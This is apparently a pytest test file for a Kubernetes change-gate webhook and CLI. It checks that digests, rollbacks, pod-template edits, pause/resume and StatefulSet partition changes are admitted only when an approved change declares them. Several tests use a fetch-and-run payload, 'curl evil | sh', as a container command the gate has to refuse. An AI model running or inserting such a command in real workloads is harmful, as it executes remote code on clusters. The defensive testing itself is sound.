"""A change covers exactly what it declares: digests, rollbacks, the pod template, releases.

Tables for the rules of issue 10's second promise: a digest the change did not
declare, a rollback to a reference no finished rollout ran (or too long ago), a
template edit beyond the declared images, resuming a paused Deployment and
lowering a StatefulSet partition; and the canonical pod template the CLI and
the webhook hash alike.
"""

from __future__ import annotations

import copy
import dataclasses
from datetime import timedelta
from typing import Any

import pytest

from changegate.cli.draft import RequestOptions, draft_change
from changegate.cli.errors import CommandError
from changegate.cli.manifest import manifest_namespace, manifest_targets
from changegate.core.change.admission import Reason, WorkloadRequest, decide_rollout
from changegate.core.change.coverage import template_problem
from changegate.core.change.facts import ChangeFacts, ServicePolicy, TargetFacts
from changegate.core.change.workloads import (
    Workload,
    canonical_template,
    is_rollout,
    pod_template_hash,
    releases,
    template_edits,
)
from tests.unit.builders import (
    DIGEST,
    EMERGENCY_MEMBER,
    NEW_IMAGE,
    NOW,
    OLD_IMAGE,
    OTHER_DIGEST,
    SERVICE,
    approved_change,
    facts,
    freeze,
    iso,
    policy,
    request,
    target,
    update,
    workload_body,
)

DAY = 24 * 3600


def with_spec(body: dict[str, Any], **spec: Any) -> dict[str, Any]:
    new = copy.deepcopy(body)
    new["spec"].update(spec)
    return new


def with_command(body: dict[str, Any], *command: str) -> dict[str, Any]:
    new = copy.deepcopy(body)
    new["spec"]["template"]["spec"]["containers"][0]["command"] = list(command)
    return new


def partitioned(body: dict[str, Any], partition: int) -> dict[str, Any]:
    return with_spec(
        body, updateStrategy={"type": "RollingUpdate", "rollingUpdate": {"partition": partition}}
    )


def defaulted(template: dict[str, Any]) -> dict[str, Any]:
    """What the API server stores for a template a pipeline applied: its defaults filled in."""
    stored = copy.deepcopy(template)
    stored.setdefault("metadata", {})["creationTimestamp"] = None
    pod = stored["spec"]
    pod |= {
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst",
        "securityContext": {},
        "schedulerName": "default-scheduler",
    }
    for container in pod["containers"]:
        latest = container["image"].endswith(":latest") or ":" not in container["image"]
        container |= {
            "terminationMessagePath": "/dev/termination-log",
            "terminationMessagePolicy": "File",
            "imagePullPolicy": "Always" if latest else "IfNotPresent",
            "resources": {},
        }
        for port in container.get("ports", []):
            port["protocol"] = "TCP"
    return stored


def deployed(
    *, images: dict[str, str], digests: dict[str, str] | None = None, days_ago: float = 1
) -> ChangeFacts:
    """A completed change whose rollout of payments-api ran `images` and finished `days_ago`."""
    finish = NOW - timedelta(days=days_ago)
    entry = {
        "kind": "Deployment",
        "name": SERVICE,
        "images": [
            {"container": c, "image": i}
            | ({"digest": digests[c]} if digests and c in digests else {})
            for c, i in images.items()
        ],
        "startTime": iso(finish),
        "finishTime": iso(finish),
        "result": "Succeeded",
    }
    return facts(
        approved_change(
            "payments-api-1-41-0",
            targets=[target(images=images)],
            phase="Completed",
            rollouts=[entry],
            window=(-24 * days_ago - 2, -24 * days_ago + 2),
        )
    )


def declared(**kw: Any) -> ChangeFacts:
    return facts(approved_change(**kw))


def decide(
    req: WorkloadRequest, *changes: ChangeFacts, service: ServicePolicy | None = None
) -> tuple[bool, Reason, str]:
    decision = decide_rollout(req, service or policy(), changes, NOW)
    return decision.allowed, decision.reason, decision.explain()


# -- digests ------------------------------------------------------------------

PINNED = f"{NEW_IMAGE}@{DIGEST}"


@pytest.mark.parametrize(
    ("images", "digests", "allowed"),
    [
        pytest.param({"api": NEW_IMAGE}, None, True, id="tag-declared-tag-applied"),
        pytest.param({"api": PINNED}, None, False, id="tag-declared-undeclared-digest"),
        pytest.param({"api": PINNED}, {"api": DIGEST}, True, id="digest-declared-and-applied"),
        pytest.param(
            {"api": f"{NEW_IMAGE}@{OTHER_DIGEST}"}, {"api": DIGEST}, False, id="other-digest"
        ),
    ],
)
def test_a_digest_passes_only_when_declared(
    images: dict[str, str], digests: dict[str, str] | None, allowed: bool
) -> None:
    change = declared(targets=[target(digests=digests)])

    verdict, reason, text = decide(update(images=images), change)

    assert verdict is allowed, text
    assert reason is (Reason.APPROVED_CHANGE if allowed else Reason.NO_CHANGE)


def test_short_and_full_references_are_one_image() -> None:
    change = declared(targets=[target(images={"api": "nginx"})])
    req = update(
        workload_body(images={"api": "nginx:1.26"}),
        images={"api": "docker.io/library/nginx:latest"},
    )

    assert decide(req, change)[:2] == (True, Reason.APPROVED_CHANGE)


# -- rollbacks ----------------------------------------------------------------

RUNNING_NEW = workload_body(images={"api": NEW_IMAGE})


@pytest.mark.parametrize(
    ("back_to", "recorded", "digests", "days_ago", "allowed"),
    [
        pytest.param(OLD_IMAGE, OLD_IMAGE, None, 1, True, id="same-tag"),
        pytest.param(f"{OLD_IMAGE}@{DIGEST}", OLD_IMAGE, {"api": DIGEST}, 1, True, id="recorded"),
        pytest.param(f"{OLD_IMAGE}@{OTHER_DIGEST}", OLD_IMAGE, {"api": DIGEST}, 1, False, id="d"),
        pytest.param(f"{OLD_IMAGE}@{DIGEST}", OLD_IMAGE, None, 1, False, id="unrecorded-digest"),
        pytest.param(OLD_IMAGE, f"{OLD_IMAGE}@{DIGEST}", None, 1, False, id="pin-dropped"),
        pytest.param(OLD_IMAGE, OLD_IMAGE, None, 31, False, id="beyond-the-horizon"),
        pytest.param(OLD_IMAGE, OLD_IMAGE, None, 29, True, id="within-the-horizon"),
    ],
)
def test_a_rollback_returns_only_to_exact_recent_references(
    back_to: str, recorded: str, digests: dict[str, str] | None, days_ago: float, allowed: bool
) -> None:
    previous = deployed(images={"api": recorded}, digests=digests, days_ago=days_ago)

    verdict, reason, text = decide(update(RUNNING_NEW, images={"api": back_to}), previous)

    assert verdict is allowed, text
    assert reason is (Reason.ROLLBACK if allowed else Reason.NO_CHANGE)


def test_the_rollback_horizon_is_the_policys() -> None:
    previous = deployed(images={"api": OLD_IMAGE}, days_ago=2)
    short = dataclasses.replace(policy(), rollback_horizon_seconds=DAY)
    req = update(RUNNING_NEW, images={"api": OLD_IMAGE})

    assert decide(req, previous, service=short)[0] is False
    assert decide(req, previous)[:2] == (True, Reason.ROLLBACK)


# -- other edits of the pod template -----------------------------------------


def test_an_images_only_change_refuses_a_command_edit_and_says_how_to_declare_it() -> None:
    change = declared()
    evil = with_command(workload_body(images={"api": NEW_IMAGE}), "sh", "-c", "curl evil | sh")
    req = request(workload_body(), evil)

    verdict, reason, text = decide(req, change)

    assert (verdict, reason) == (False, Reason.NO_CHANGE)
    assert "declares images only" in text
    assert "spec.containers[api].command" in text
    assert "changegate request --from-file MANIFEST" in text


def test_a_declared_template_admits_exactly_that_template() -> None:
    new = with_command(workload_body(images={"api": NEW_IMAGE}), "serve", "--fast")
    declared_hash = pod_template_hash(new["spec"]["template"])
    change = declared(targets=[{**target(), "podTemplateHash": declared_hash}])

    assert decide(request(workload_body(), new), change)[:2] == (True, Reason.APPROVED_CHANGE)
    other = with_command(workload_body(images={"api": NEW_IMAGE}), "sh")
    verdict, _, text = decide(request(workload_body(), other), change)
    assert verdict is False
    assert f"is not the declared {declared_hash}" in text


# -- new workloads: a create brings its whole template ----------------------------


def new_of_kind(kind: str, *command: str) -> dict[str, Any]:
    """A new object of `kind` running NEW_IMAGE, as a product team would create it."""
    body = with_command(workload_body(images={"api": NEW_IMAGE}), *command)
    template = body["spec"]["template"]
    if kind == "Pod":
        return {**body, "kind": "Pod", "spec": template["spec"]}
    if kind in ("Job", "CronJob"):
        job = {"template": template}
        spec = job if kind == "Job" else {"schedule": "*/5 * * * *", "jobTemplate": {"spec": job}}
        return {**body, "kind": kind, "apiVersion": "batch/v1", "spec": spec}
    return {**body, "kind": kind}


def declaring(kind: str, body: dict[str, Any] | None) -> ChangeFacts:
    """An approved change of the new object: images only, or its template too."""
    declared_target = target(kind=kind)
    if body is not None:
        template = Workload.from_body(body).template
        declared_target["podTemplateHash"] = pod_template_hash(template)
    return declared(targets=[declared_target])


KINDS = ["Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Pod", "Job", "CronJob"]


@pytest.mark.parametrize("kind", KINDS)
def test_an_images_only_change_does_not_cover_a_new_workload(kind: str) -> None:
    evil = new_of_kind(kind, "sh", "-c", "curl evil | sh")
    actual = pod_template_hash(Workload.from_body(evil).template)

    verdict, reason, text = decide(request(None, evil), declaring(kind, None))

    assert (verdict, reason) == (False, Reason.NO_CHANGE)
    assert f"declares images only, but a new {kind} runs its whole pod template" in text
    assert actual in text, "the refusal names the hash to declare"
    assert "--from-file MANIFEST" in text


@pytest.mark.parametrize("kind", KINDS)
def test_a_change_declaring_the_template_covers_the_new_workload_and_only_it(kind: str) -> None:
    applied = new_of_kind(kind, "serve")
    change = declaring(kind, applied)

    assert decide(request(None, applied), change)[:2] == (True, Reason.APPROVED_CHANGE)
    verdict, _, text = decide(request(None, new_of_kind(kind, "sh")), change)
    assert verdict is False
    assert "is not the declared" in text


def test_a_create_by_break_glass_needs_no_declared_template() -> None:
    glass = workload_body(
        images={"api": NEW_IMAGE}, annotations={"changegate.io/break-glass": "INC-1 down"}
    )
    verdict, reason, _ = decide(request(None, glass, user=EMERGENCY_MEMBER))
    assert (verdict, reason) == (True, Reason.BREAK_GLASS)


@pytest.mark.parametrize(
    ("edit", "path"),
    [
        pytest.param(lambda c: c.update(args=["--debug"]), "spec.containers[api].args", id="args"),
        pytest.param(
            lambda c: c.update(env=[{"name": "X", "value": "1"}]),
            "spec.containers[api].env[X]",
            id="env",
        ),
        pytest.param(
            lambda c: c.update(securityContext={"privileged": True}),
            "spec.containers[api].securityContext",
            id="security-context",
        ),
    ],
)
def test_template_problem_names_what_changed(edit: Any, path: str) -> None:
    old = Workload.from_body(workload_body())
    body = workload_body()
    edit(body["spec"]["template"]["spec"]["containers"][0])
    images_only = TargetFacts("Deployment", SERVICE, (("api", OLD_IMAGE, None),))

    problem = template_problem(images_only, old, Workload.from_body(body))

    assert problem is not None
    assert path in problem


def test_an_image_and_restart_stamp_are_no_template_edit() -> None:
    old = workload_body()
    new = workload_body(
        images={"api": NEW_IMAGE},
        template_annotations={"kubectl.kubernetes.io/restartedAt": iso(NOW)},
    )
    assert template_edits(old["spec"]["template"], new["spec"]["template"]) == []


def test_the_canonical_template_ignores_what_the_api_server_fills_in() -> None:
    applied = workload_body(images={"api": NEW_IMAGE})["spec"]["template"]
    stored = defaulted(applied)
    stored["metadata"]["labels"]["pod-template-hash"] = "5d4f8b7c9"

    assert canonical_template(stored) == canonical_template(applied)
    assert pod_template_hash(stored) == pod_template_hash(applied)
    edited = copy.deepcopy(stored)
    edited["spec"]["dnsPolicy"] = "None"
    assert pod_template_hash(edited) != pod_template_hash(applied)


def admitted_pod(applied: dict[str, Any]) -> dict[str, Any]:
    """What the API server admits for a Pod created from `applied`: defaults, the
    Priority, DefaultTolerationSeconds and ServiceAccount plugins' additions."""
    pod = copy.deepcopy(applied)
    spec = pod["spec"]
    spec |= {"enableServiceLinks": True, "priority": 0, "preemptionPolicy": "PreemptLowerPriority",
             "serviceAccountName": "default", "serviceAccount": "default",
             "restartPolicy": "Always", "dnsPolicy": "ClusterFirst"}  # fmt: skip
    spec["tolerations"] = [
        {"key": f"node.kubernetes.io/{t}", "operator": "Exists", "effect": "NoExecute",
         "tolerationSeconds": 300} for t in ("not-ready", "unreachable")
    ]  # fmt: skip
    spec["volumes"] = [{"name": "kube-api-access-x7k2p", "projected": {"defaultMode": 420, "sources": [
        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
        {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
        {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {
            "apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}},
    ]}}]  # fmt: skip
    spec["containers"][0]["volumeMounts"] = [{"name": "kube-api-access-x7k2p", "readOnly": True,
        "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}]  # fmt: skip
    return pod


def test_a_pod_declared_from_its_manifest_hashes_as_the_pod_admitted() -> None:
    applied = new_of_kind("Pod", "serve")
    admitted = admitted_pod(applied)
    declared_hash = pod_template_hash(Workload.from_body(applied).template)

    assert pod_template_hash(Workload.from_body(admitted).template) == declared_hash
    # The token volume counts as declared code in any other shape, or mounted elsewhere.
    admitted["spec"]["containers"][0]["volumeMounts"][0]["mountPath"] = "/evil"
    assert pod_template_hash(Workload.from_body(admitted).template) != declared_hash


def test_a_jobs_own_labels_are_no_declared_configuration() -> None:
    applied = new_of_kind("Job", "migrate")
    admitted = copy.deepcopy(applied)
    admitted["spec"]["template"]["metadata"]["labels"] |= {
        "controller-uid": "0b5c", "batch.kubernetes.io/job-name": SERVICE
    }  # fmt: skip
    assert pod_template_hash(Workload.from_body(admitted).template) == pod_template_hash(
        Workload.from_body(applied).template
    )


def test_the_cli_reads_each_kinds_template_where_the_webhook_does() -> None:
    bodies = [new_of_kind(kind, "serve") for kind in KINDS]
    declared_targets = manifest_targets(bodies, "all.yaml")
    assert [t.pod_template_hash for t in declared_targets] == [
        pod_template_hash(Workload.from_body(body).template) for body in bodies
    ]


# -- releases: pause/resume and partitions -------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "released"),
    [
        pytest.param({"paused": True}, {"paused": False}, True, id="resume"),
        pytest.param({"paused": True}, {}, True, id="paused-field-dropped"),
        pytest.param({}, {"paused": True}, False, id="pause"),
        pytest.param({"paused": True}, {"paused": True}, False, id="stays-paused"),
    ],
)
def test_resuming_a_paused_deployment_is_a_rollout(
    old: dict[str, Any], new: dict[str, Any], released: bool
) -> None:
    before = Workload.from_body(with_spec(workload_body(), **old))
    after = Workload.from_body(with_spec(workload_body(), **new))

    assert releases(before, after) is released
    assert is_rollout(before, after) is released


@pytest.mark.parametrize(
    ("old", "new", "released"),
    [(3, 0, True), (3, 2, True), (0, 3, False), (2, 2, False)],
)
def test_lowering_a_partition_is_a_rollout(old: int, new: int, released: bool) -> None:
    sts = workload_body("payments-ledger", kind="StatefulSet")
    before = Workload.from_body(partitioned(sts, old))
    after = Workload.from_body(partitioned(sts, new))

    assert is_rollout(before, after) is released


def test_a_template_admitted_while_paused_cannot_be_resumed_in_a_freeze() -> None:
    paused_new = with_spec(workload_body(images={"api": NEW_IMAGE}), paused=True)
    change = declared()
    frozen = policy(freezes=[freeze()])

    verdict, reason, _ = decide(
        request(paused_new, with_spec(paused_new, paused=False)), change, service=frozen
    )
    assert (verdict, reason) == (False, Reason.FREEZE)
    assert decide(request(paused_new, with_spec(paused_new, paused=False)), change)[0] is True


def test_resuming_needs_a_change_even_to_images_deployed_before() -> None:
    previous = deployed(images={"api": NEW_IMAGE})
    paused = with_spec(workload_body(images={"api": NEW_IMAGE}), paused=True)

    verdict, reason, _ = decide(request(paused, with_spec(paused, paused=False)), previous)

    assert (verdict, reason) == (False, Reason.NO_CHANGE)


def test_lowering_a_partition_needs_a_change() -> None:
    sts = workload_body("payments-ledger", kind="StatefulSet", images={"api": NEW_IMAGE})
    req = request(partitioned(sts, 3), partitioned(sts, 0))
    change = declared(targets=[target("payments-ledger", "StatefulSet")])

    assert decide(req)[:2] == (False, Reason.NO_CHANGE)
    assert decide(req, change)[:2] == (True, Reason.APPROVED_CHANGE)


# -- the CLI declares the manifest's template ---------------------------------


def test_the_cli_declares_every_workload_of_the_manifest_with_the_webhooks_hash() -> None:
    manifest = with_command(workload_body(images={"api": NEW_IMAGE}), "serve")
    documents = [{"kind": "Service", "metadata": {"name": SERVICE}}, manifest]

    [declared_target] = manifest_targets(documents, "app.yaml")
    change = draft_change(
        RequestOptions(namespace="payments-prod", service=SERVICE, declared=(declared_target,)),
        NOW,
    )

    [spec_target] = change.spec.targets
    stored = defaulted(manifest["spec"]["template"])
    assert spec_target.pod_template_hash == pod_template_hash(stored)
    assert [(i.container, i.image) for i in spec_target.images] == [("api", NEW_IMAGE)]
    assert manifest_namespace(documents) == "payments-prod"
    facts_of = ChangeFacts.from_model(change)
    assert facts_of.targets[0].pod_template_hash == spec_target.pod_template_hash


def test_a_manifest_without_workloads_is_a_usage_error() -> None:
    with pytest.raises(CommandError, match="no workload"):
        manifest_targets([{"kind": "ConfigMap"}], "cm.yaml")
